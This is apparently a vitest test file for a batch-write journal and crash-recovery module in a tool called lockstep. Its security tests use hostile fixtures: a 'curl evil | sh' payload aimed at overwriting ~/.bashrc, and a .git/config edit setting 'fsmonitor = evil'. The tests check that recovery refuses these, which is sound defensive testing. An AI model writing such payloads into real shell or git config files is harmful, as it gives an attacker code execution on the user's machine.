// The journaled batch write: all files or none, and what the next run does with
// a journal a killed process left (staging: undone; committed: finished).
import { spawnSync } from "node:child_process";
import { promises as fs } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { journalFolder, sha256 } from "../../server/src/workspace/batch-journal.js";
import { recoverBatches, writeBatch } from "../../server/src/workspace/disk-batch.js";
import { tempDir } from "../support/workspace-fixture.js";

async function root(files: Record<string, string>): Promise<string> {
  const dir = await fs.realpath(tempDir("lockstep-batch-"));
  for (const [name, text] of Object.entries(files)) {
    await fs.mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await fs.writeFile(path.join(dir, name), text);
  }
  return dir;
}

const read = (dir: string, name: string): Promise<string | undefined> =>
  fs.readFile(path.join(dir, name), "utf8").catch(() => undefined);

/** The pid of a process that has exited: a journal under it belongs to nobody alive. */
function deadPid(): number {
  return Number(
    spawnSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"], { encoding: "utf8" })
      .stdout,
  );
}

describe("writeBatch", () => {
  it("writes, creates and deletes together", async () => {
    const dir = await root({ "a.txt": "a\n", "b/c.txt": "c\n" });
    const result = await writeBatch(dir, [
      { abs: path.join(dir, "a.txt"), before: "a\n", after: "A\n" },
      { abs: path.join(dir, "b/c.txt"), before: "c\n", after: null },
      { abs: path.join(dir, "new/d.txt"), before: null, after: "d\n" },
    ]);
    expect(result.ok).toBe(true);
    expect([await read(dir, "a.txt"), await read(dir, "b/c.txt"), await read(dir, "new/d.txt")]).toEqual([
      "A\n",
      undefined,
      "d\n",
    ]);
    expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
  });

  it("writes nothing when one file is not its base", async () => {
    const dir = await root({ "a.txt": "a\n", "b.txt": "changed\n" });
    const result = await writeBatch(dir, [
      { abs: path.join(dir, "a.txt"), before: "a\n", after: "A\n" },
      { abs: path.join(dir, "b.txt"), before: "b\n", after: "B\n" },
    ]);
    expect(!result.ok && result.error.code).toBe("state_mismatch");
    expect([await read(dir, "a.txt"), await read(dir, "b.txt")]).toEqual(["a\n", "changed\n"]);
  });
});

/** A journal as a killed lockstep process leaves it, in `folder` (the state directory's folder of the root). */
async function plant(
  folder: string,
  root: string,
  pid: number,
  state: "staging" | "committed",
  entries: object[],
  token = "ab".repeat(16),
): Promise<string> {
  await fs.mkdir(folder, { recursive: true });
  const file = path.join(folder, `${pid}-${token}.json`);
  await fs.writeFile(file, JSON.stringify({ version: 2, token, pid, root, state, entries }));
  return file;
}

const entry = (
  dir: string,
  name: string,
  before: string | null,
  after: string | null,
  temp: string | null,
): object => ({
  target: path.join(dir, name),
  temp: temp === null ? null : path.join(dir, temp),
  before: before === null ? null : sha256(before),
  after: after === null ? null : sha256(after),
});

describe("recoverBatches", () => {
  it("finishes a committed journal of a dead process: the renames not done yet, the deletes", async () => {
    const dir = await root({
      "a.txt": "A\n",
      "b.txt": "b\n",
      "gone.txt": "g\n",
      ".b.txt.1-00000000.lockstep-batch": "B\n",
    });
    const journals = tempDir("lockstep-journals-");
    // a.txt was renamed before the kill; b.txt's rename and the delete were not.
    await plant(journals, dir, deadPid(), "committed", [
      entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-11111111.lockstep-batch"),
      entry(dir, "b.txt", "b\n", "B\n", ".b.txt.1-00000000.lockstep-batch"),
      entry(dir, "gone.txt", "g\n", null, null),
    ]);
    expect(await recoverBatches(dir, journals)).toEqual({ settled: 1, notes: [] });
    expect([await read(dir, "a.txt"), await read(dir, "b.txt"), await read(dir, "gone.txt")]).toEqual([
      "A\n",
      "B\n",
      undefined,
    ]);
    expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
    expect(await fs.readdir(journals)).toEqual([]);
  });

  it("undoes a staging journal: its temporary files go, every file stays", async () => {
    const dir = await root({ "a.txt": "a\n", ".a.txt.1-00000000.lockstep-batch": "A\n" });
    const journals = tempDir("lockstep-journals-");
    const pid = deadPid();
    await plant(journals, dir, pid, "staging", [
      entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"),
    ]);
    await fs.writeFile(path.join(journals, `${pid}-${"cd".repeat(16)}.json.tmp`), "{}");
    await recoverBatches(dir, journals);
    expect(await read(dir, "a.txt")).toBe("a\n");
    expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
    expect(await fs.readdir(journals)).toEqual([]);
  });

  it("leaves a live process's journal alone", async () => {
    const dir = await root({ "a.txt": "a\n" });
    const journals = tempDir("lockstep-journals-");
    const file = await plant(journals, dir, process.pid, "committed", []);
    expect((await recoverBatches(dir, journals)).settled).toBe(0);
    expect(await fs.readdir(journals)).toEqual([path.basename(file)]);
  });

  it("never reads a journal in the working tree: a committed one naming a file outside the root is ignored", async () => {
    const outside = await root({ ".bashrc": "# mine\n" });
    const dir = await root({ "payload.txt": "curl evil | sh\n", "keep.txt": "k\n" });
    const entries = [
      { target: path.join(outside, ".bashrc"), temp: path.join(dir, "payload.txt") },
      { target: path.join(dir, "keep.txt"), temp: null },
    ];
    await fs.writeFile(
      path.join(dir, `.lockstep-batch.${deadPid()}-abcdef01.json`),
      JSON.stringify({ version: 1, state: "committed", entries }),
    );
    const journals = tempDir("lockstep-journals-");
    expect(await recoverBatches(dir, journals)).toEqual({ settled: 0, notes: [] });
    expect([
      await read(outside, ".bashrc"),
      await read(dir, "payload.txt"),
      await read(dir, "keep.txt"),
    ]).toEqual(["# mine\n", "curl evil | sh\n", "k\n"]);
  });

  it("refuses a journal in the state directory that names a target outside the root, a temporary file lockstep does not name, or another token", async () => {
    const outside = await root({ ".bashrc": "# mine\n" });
    const dir = await root({
      "a.txt": "a\n",
      ".a.txt.1-00000000.lockstep-batch": "A\n",
      "payload.txt": "evil\n",
    });
    const journals = tempDir("lockstep-journals-");
    const bashrc = {
      target: path.join(outside, ".bashrc"),
      temp: path.join(outside, "..bashrc.1-00000000.lockstep-batch"),
      before: sha256("# mine\n"),
      after: sha256("evil\n"),
    };
    await plant(journals, dir, deadPid(), "committed", [
      entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"),
      bashrc,
    ]);
    await plant(
      journals,
      dir,
      deadPid(),
      "committed",
      [entry(dir, "a.txt", "a\n", "evil\n", "payload.txt")],
      "12".repeat(16),
    );
    await plant(
      journals,
      dir,
      deadPid(),
      "committed",
      [entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch")],
      "34".repeat(16),
    );
    await fs.writeFile(
      path.join(journals, `${deadPid()}-${"56".repeat(16)}.json`),
      await fs.readFile(path.join(journals, (await fs.readdir(journals)).find((n) => n.includes("3434"))!)),
    );
    await fs.rm(path.join(journals, (await fs.readdir(journals)).find((n) => n.includes("3434"))!));
    const recovered = await recoverBatches(dir, journals);
    expect(recovered.settled).toBe(0);
    expect(recovered.notes.join("\n")).toMatch(/outside the workspace/);
    expect(recovered.notes.join("\n")).toMatch(/temporary file for .* is not one lockstep names/);
    expect(recovered.notes.join("\n")).toMatch(/not one lockstep wrote for this folder/);
    expect([
      await read(outside, ".bashrc"),
      await read(dir, "a.txt"),
      await read(dir, "payload.txt"),
    ]).toEqual(["# mine\n", "a\n", "evil\n"]);
  });

  it("refuses a journal that names a file under .git/", async () => {
    const dir = await root({
      ".git/config": "[core]\n",
      ".git/.config.1-00000000.lockstep-batch": "[core]\n\tfsmonitor = evil\n",
    });
    const journals = tempDir("lockstep-journals-");
    await plant(journals, dir, deadPid(), "committed", [
      entry(
        dir,
        ".git/config",
        "[core]\n",
        "[core]\n\tfsmonitor = evil\n",
        ".git/.config.1-00000000.lockstep-batch",
      ),
    ]);
    expect((await recoverBatches(dir, journals)).notes.join("\n")).toMatch(/inside \.git\//);
    expect(await read(dir, ".git/config")).toBe("[core]\n");
  });

  it("a roll-forward keeps a file edited after the crash and says so; the others are finished", async () => {
    const dir = await root({
      "a.txt": "a, edited by the user\n",
      "b.txt": "b\n",
      ".a.txt.1-00000000.lockstep-batch": "A\n",
      ".b.txt.1-00000000.lockstep-batch": "B\n",
    });
    const journals = tempDir("lockstep-journals-");
    await plant(journals, dir, deadPid(), "committed", [
      entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"),
      entry(dir, "b.txt", "b\n", "B\n", ".b.txt.1-00000000.lockstep-batch"),
    ]);
    const recovered = await recoverBatches(dir, journals);
    expect(recovered.notes).toEqual([
      expect.stringMatching(/^a\.txt: changed since the interrupted change was made; kept as it is/),
    ]);
    expect([await read(dir, "a.txt"), await read(dir, "b.txt")]).toEqual(["a, edited by the user\n", "B\n"]);
    expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
  });
});

describe("writeBatch's journal", () => {
  it("is written in the state directory's folder for the root, never in the working tree", async () => {
    const dir = await root({ "a.txt": "a\n", "b.txt": "b\n" });
    const state = tempDir("lockstep-state-");
    const folder = journalFolder(dir, { XDG_STATE_HOME: state });
    expect(folder.startsWith(path.join(state, "lockstep", "batches"))).toBe(true);
    const seen: string[] = [];
    const watcher = (await import("node:fs")).watch(dir, (_event, name) => name && seen.push(String(name)));
    try {
      const written = await writeBatch(
        dir,
        [
          { abs: path.join(dir, "a.txt"), before: "a\n", after: "A\n" },
          { abs: path.join(dir, "b.txt"), before: "b\n", after: "B\n" },
        ],
        { journals: folder },
      );
      expect(written.ok).toBe(true);
    } finally {
      watcher.close();
    }
    expect(seen.filter((n) => n.endsWith(".json") || n.endsWith(".json.tmp"))).toEqual([]);
    expect(await fs.readdir(folder)).toEqual([]);
  });
});
